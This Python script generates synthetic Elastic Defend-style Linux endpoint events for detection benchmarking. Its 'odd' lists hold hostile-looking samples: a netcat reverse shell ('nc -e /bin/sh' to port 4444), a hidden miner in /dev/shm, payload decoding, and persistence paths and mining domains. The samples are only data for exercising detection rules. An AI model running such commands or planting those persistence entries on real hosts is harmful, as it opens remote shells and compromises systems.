#!/usr/bin/env python3
"""Write made-up endpoint events of about 1.2 KB, one JSON object per line, the same for the same seed.

usage: generate.py [--events N | --bytes N] [--seed N] [--mix PROCESS,FILE,NETWORK,OTHER] [--odd SHARE]
       generate.py --stress KEYS --events N [--seed N]

A host: services, a login shell, a package run, cron jobs. Processes fork, exec, change their user and
end; files are created, modified, renamed and deleted in the places those programs use; some connect,
accept, ask for names. Executables and places repeat as they do on a host; entity ids, pids, file names
and part of the arguments do not. Field names and shapes are those of Elastic Defend's Linux events.

--mix    percent of events of each make (default 50,40,8,2); OTHER: names asked for, users changed
--odd    share of programs started and of files changed that are of the kind detection rules look for
--stress short events for one sequence rule: of every two one starts a process and one is a connection,
         one in twenty of them of a process started within the last ten minutes: with that maxspan KEYS
         processes are waited for at any time
"""
import argparse, json, random, sys

USERS = [("0", "root"), ("0", "root"), ("0", "root"), ("33", "www-data"), ("1000", "mira"), ("104", "postgres")]
# These do not run others' programs, and those do not write files: a host where they did would be one alarm.
CHILDLESS = ("nginx", "postgres", "java", "node")
FILELESS = ("ssh", "curl", "nginx", "node", "java")
# executable, arguments
PROGRAMS = [
    ("/usr/bin/bash", ["bash", "-c", "for f in *.log; do gzip -9 \"$f\"; done"]),
    ("/usr/bin/bash", ["-bash"]),
    ("/usr/bin/dash", ["sh", "-c", "test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily"]),
    ("/usr/bin/grep", ["grep", "-rn", "--include=*.conf", "listen", "/etc/nginx"]),
    ("/usr/bin/sed", ["sed", "-i", "s/^Port .*/Port 2222/", "sshd_config.new"]),
    ("/usr/bin/find", ["find", "/var/cache/app", "-type", "f", "-mtime", "+30", "-delete"]),
    ("/usr/bin/python3.11", ["/usr/bin/python3", "/opt/app/bin/worker.py", "--queue", "mail", "--batch", "500"]),
    ("/usr/bin/perl", ["perl", "-ne", "print if /error/i", "/var/log/app/current.log"]),
    ("/usr/bin/git", ["git", "fetch", "--prune", "origin"]),
    ("/usr/bin/git", ["git", "show", "--format=%H", "%08x"]),
    ("/usr/bin/cat", ["cat", "/proc/%d/status"]),
    ("/usr/bin/mv", ["mv", "/var/cache/app/%06x.new", "/var/cache/app/%06x.bin"]),
    ("/usr/bin/rm", ["rm", "-rf", "/tmp/build.%06x"]),
    ("/usr/bin/docker", ["docker", "inspect", "--type", "container", "%012x"]),
    ("/usr/bin/psql", ["psql", "-At", "-c", "select total from orders where id = %d"]),
    ("/usr/bin/make", ["make", "-j4", "all"]),
    ("/usr/bin/x86_64-linux-gnu-gcc-12", ["gcc", "-O2", "-Wall", "-c", "-o", "build/main.o", "src/main.c"]),
    ("/usr/lib/gcc/x86_64-linux-gnu/12/cc1", ["/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "src/main.c", "-o", "/tmp/ccQm2x.s"]),
    ("/usr/bin/dpkg", ["/usr/bin/dpkg", "--status-fd", "19", "--configure", "--pending"]),
    ("/usr/bin/apt-get", ["apt-get", "-y", "install", "tree"]),
    ("/usr/bin/systemctl", ["systemctl", "daemon-reload"]),
    ("/usr/lib/systemd/systemd", ["/lib/systemd/systemd", "--user"]),
    ("/usr/sbin/nginx", ["nginx: worker process"]),
    ("/usr/lib/postgresql/15/bin/postgres", ["postgres: autovacuum worker", "orders"]),
    ("/usr/bin/rsync", ["rsync", "-a", "--delete", "/srv/www/", "backup:/srv/www/"]),
    ("/usr/bin/tar", ["tar", "-C", "/srv", "-czf", "/var/backups/srv-daily.tar.gz", "www"]),
    ("/usr/bin/curl", ["curl", "-fsS", "-o", "/tmp/health.json", "https://status.example.org/health"]),
    ("/usr/bin/ssh", ["ssh", "-o", "BatchMode=yes", "backup", "true"]),
    ("/usr/bin/node", ["node", "--max-old-space-size=512", "/opt/web/server.js"]),
    ("/usr/bin/java", ["java", "-Xmx2g", "-jar", "/opt/search/search.jar", "--port=9200"]),
    ("/usr/bin/id", ["id", "-u"]),
    ("/usr/bin/stat", ["stat", "-c", "%s", "/var/log/syslog"]),
]
ODD_PROGRAMS = [
    ("/usr/bin/nc.traditional", ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"]),
    ("/dev/shm/.x/kworker", ["/dev/shm/.x/kworker", "-o", "pool.example.net:3333"]),
    ("/usr/bin/base64", ["base64", "-d", "/tmp/.payload"]),
    ("/usr/bin/chattr", ["chattr", "+i", "/etc/ld.so.preload"]),
    ("/usr/bin/crontab", ["crontab", "-l"]),
]
FILES = [
    "/var/log/app/current.log", "/var/log/nginx/access.log.1", "/var/lib/dpkg/status-new", "/var/lib/apt/lists/partial/deb_Packages",
    "/tmp/tmp%06x/part.json", "/tmp/cc%06x.o", "/home/mira/src/project/build/obj_%06x.o", "/home/mira/.cache/thumbnails/%06x.png",
    "/usr/share/doc/tree/changelog.%06x.gz", "/usr/lib/x86_64-linux-gnu/libexample.so.%d", "/var/cache/app/%06x.bin",
    "/var/lib/postgresql/15/main/base/16384/%06x", "/srv/www/static/app.%06x.js", "/run/systemd/units/log-extra-fields:%06x.service",
    "/var/spool/mail/queue/%06x.eml", "/opt/app/run/worker.%d.pid", "/etc/nginx/conf.d/site-%06x.conf", "/home/mira/notes.md",
]
ODD_FILES = ["/etc/ld.so.preload", "/etc/cron.d/%06x", "/etc/systemd/system/%06x.service", "/root/.ssh/authorized_keys", "/lib/modules/%06x.ko"]
NAMES = ["mirror.example.net", "packages.example.org", "api-%06x.example.net", "status.example.org", "db1.internal", "%06x.cdn.example.com"]
ODD_NAMES = ["pool.supportxmr.com", "transfer.sh", "%06x.ngrok.io"]
HOST = {"architecture": "x86_64", "hostname": "bench-1", "name": "bench-1", "id": "6f1d2c9e5a7b4c3d8e9f0a1b2c3d4e5f",
        "os": {"family": "debian", "kernel": "6.1.0-30-amd64", "name": "Debian GNU/Linux", "platform": "debian", "type": "linux", "version": "12"}}


def varied(random, text):
    """A template's one number filled in."""
    return text % random.getrandbits(20) if "%0" in text or "%d" in text else text


class World:
    def __init__(self, seed, odd):
        self.random = random.Random(seed)
        self.odd_share = odd
        self.ms = 1767582000000
        self.sequence = 0
        self.pid = 1000
        init = {"entity_id": self.entity(1), "pid": 1, "name": "systemd", "executable": "/usr/lib/systemd/systemd",
                "args": ["/sbin/init"], "command_line": "/sbin/init", "user": ("0", "root")}
        self.running = [init]

    def entity(self, pid):
        return "%016x%08x" % (self.random.getrandbits(64), pid)

    def one_that_may(self, not_these):
        while True:
            p = self.random.choice(self.running)
            if p["name"] not in not_these:
                return p

    def odd(self):
        return self.random.random() < self.odd_share

    def base(self, category, kind, action):
        self.sequence += 1
        self.ms += self.random.randrange(1, 5)
        seconds, ms = divmod(self.ms, 1000)
        day, rest = divmod(seconds - 1767571200, 86400)
        return {"@timestamp": "2026-01-%02dT%02d:%02d:%02d.%03dZ" % (5 + day, rest // 3600, rest // 60 % 60, rest % 60, ms),
                "ecs": {"version": "8.11.0"},
                "event": {"action": action, "category": [category], "dataset": "endpoint.events." + category,
                          "id": "b%015x" % self.sequence, "kind": "event", "module": "endpoint",
                          "sequence": self.sequence, "type": [kind]},
                "host": HOST}

    def shown(self, p):
        out = {k: p[k] for k in ("entity_id", "pid", "name", "executable", "args", "command_line")}
        out["args_count"] = len(p["args"])
        return out

    def start(self):
        """A process is forked and executes another program."""
        parent = self.one_that_may(CHILDLESS)
        executable, args = self.random.choice(ODD_PROGRAMS if self.odd() else PROGRAMS)
        args = [varied(self.random, a) for a in args]
        self.pid += self.random.randrange(1, 4)
        user = parent["user"] if parent["pid"] != 1 else self.random.choice(USERS)
        p = {"entity_id": self.entity(self.pid), "pid": self.pid, "name": executable.rsplit("/", 1)[1],
             "executable": executable, "args": args, "command_line": " ".join(args), "user": user, "parent": parent}
        fork = dict(p, **{k: parent[k] for k in ("name", "executable", "args", "command_line")})
        yield self.process_event(fork, "start", "fork")
        yield self.process_event(p, "start", "exec")
        self.running.append(p)

    def end(self):
        if len(self.running) < 40:
            return
        p = self.running.pop(self.random.randrange(1, len(self.running)))
        event = self.process_event(p, "end", "end")
        event["process"]["exit_code"] = 0 if self.random.random() < 0.95 else 1
        yield event

    def process_event(self, p, kind, action):
        event = self.base("process", kind, action)
        process = self.shown(p)
        process["parent"] = self.shown(p["parent"])
        process["interactive"] = False
        process["working_directory"] = "/home/mira/src/project" if p["user"][1] == "mira" else "/"
        for leader in ("group_leader", "session_leader", "entry_leader"):
            process[leader] = {k: p["parent"][k] for k in ("entity_id", "pid", "name", "executable")}
        event["process"] = process
        event["user"] = {"id": p["user"][0], "name": p["user"][1]}
        event["group"] = event["user"]
        return event

    def file(self):
        p = self.one_that_may(FILELESS)
        path = varied(self.random, self.random.choice(ODD_FILES if self.odd() else FILES))
        action, kind = self.random.choice([("creation", "creation"), ("creation", "creation"), ("modification", "change"),
                                           ("rename", "change"), ("deletion", "deletion")])
        event = self.base("file", kind, action)
        name = path.rsplit("/", 1)[1]
        event["file"] = {"path": path, "name": name, "directory": path.rsplit("/", 1)[0], "type": "file", "mode": "0644",
                         "owner": p["user"][1], "uid": p["user"][0], "size": self.random.randrange(100000)}
        if "." in name:
            event["file"]["extension"] = name.rsplit(".", 1)[1]
        if action == "rename":
            event["file"]["Ext"] = {"original": {"path": path + ".dpkg-new", "name": name + ".dpkg-new", "extension": "dpkg-new"}}
        event["process"] = dict(self.shown(p), parent={"entity_id": p.get("parent", p)["entity_id"]},
                                entry_leader={"entity_id": self.running[0]["entity_id"]})
        event["user"] = {"id": p["user"][0], "name": p["user"][1]}
        yield event

    def of_network(self, p, action, kind):
        event = self.base("network", kind, action)
        event["process"] = dict(self.shown(p), parent={"entity_id": p.get("parent", p)["entity_id"]})
        event["user"] = {"id": p["user"][0], "name": p["user"][1]}
        return event

    def network(self):
        accepted = self.random.random() < 0.25
        event = self.of_network(self.random.choice(self.running), "connection_accepted" if accepted else "connection_attempted", "start")
        event["destination"] = {"ip": "198.51.100.%d" % self.random.randrange(256), "port": self.random.choice([22, 53, 80, 443, 5432])}
        event["source"] = {"ip": "10.2.0.%d" % self.random.randrange(256), "port": self.random.randrange(32768, 61000)}
        event["network"] = {"transport": "tcp", "type": "ipv4", "direction": "ingress" if accepted else "egress"}
        yield event

    def name_asked(self):
        event = self.of_network(self.random.choice(self.running), "lookup_result", "info")
        name = varied(self.random, self.random.choice(ODD_NAMES if self.odd() else NAMES))
        event["dns"] = {"question": {"name": name, "type": "A"}, "resolved_ip": ["198.51.100.%d" % self.random.randrange(256)]}
        event["network"] = {"protocol": "dns", "transport": "udp", "type": "ipv4"}
        yield event

    def user_changed(self):
        p = self.random.choice(self.running)
        if "parent" in p:
            p["user"] = self.random.choice(USERS)
            yield self.process_event(p, "change", "uid_change")

    def other(self):
        yield from self.random.choice([self.name_asked, self.user_changed])()

    def events(self, mix):
        """A start is two events and needs an end, so a third of the process events are ends."""
        steps = [self.start, self.end, self.file, self.network, self.other]
        weights = [mix[0] / 3, mix[0] / 3, *mix[1:]]
        while True:
            for step in self.random.choices(steps, weights, k=1000):
                yield from step()


def write_mixed(args, out):
    lines, size, count = [], 0, 0
    encode = json.JSONEncoder(separators=(",", ":"), check_circular=False).encode
    for event in World(args.seed, args.odd).events([float(x) for x in args.mix.split(",")]):
        if count == args.events or (args.bytes and size >= args.bytes):
            break
        line = encode(event)
        lines.append(line)
        count += 1
        size += len(line) + 1
        if len(lines) == 1000:
            out.write("\n".join(lines) + "\n")
            lines.clear()
    if lines:
        out.write("\n".join(lines) + "\n")


STRESS_SPAN_MS = 600000


def write_stress(args, out):
    """Time goes on so that KEYS processes start within maxspan. One connection in twenty is of one of them, the
    others are of processes that started before or that nobody saw start."""
    rng, keys = random.Random(args.seed), args.stress
    start = ('{"@timestamp":%d,"event":{"category":["process"],"action":"exec"},"process":{"entity_id":"p%d","name":"worker"}}\n'
             '{"@timestamp":%d,"event":{"category":["network"],"action":"connection_attempted"},"process":{"entity_id":"p%d"}}\n')
    ms, written, batch = 1767582000000, 0, 10000
    while written < args.events:
        lines = []
        for i in range(written // 2, (written + batch) // 2):
            at = ms + i * STRESS_SPAN_MS // keys
            lines.append(start % (at, i, at, rng.randrange(i - 20 * keys, i + 1)))
        out.write("".join(lines))
        written += batch


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--events", type=int)
    parser.add_argument("--bytes", type=int)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--mix", default="50,40,8,2")
    parser.add_argument("--odd", type=float, default=0.002)
    parser.add_argument("--stress", type=int)
    args = parser.parse_args()
    if not args.events and (args.stress or not args.bytes):
        parser.error("--events N" + ("" if args.stress else " or --bytes N"))
    (write_stress if args.stress else write_mixed)(args, sys.stdout)


main()
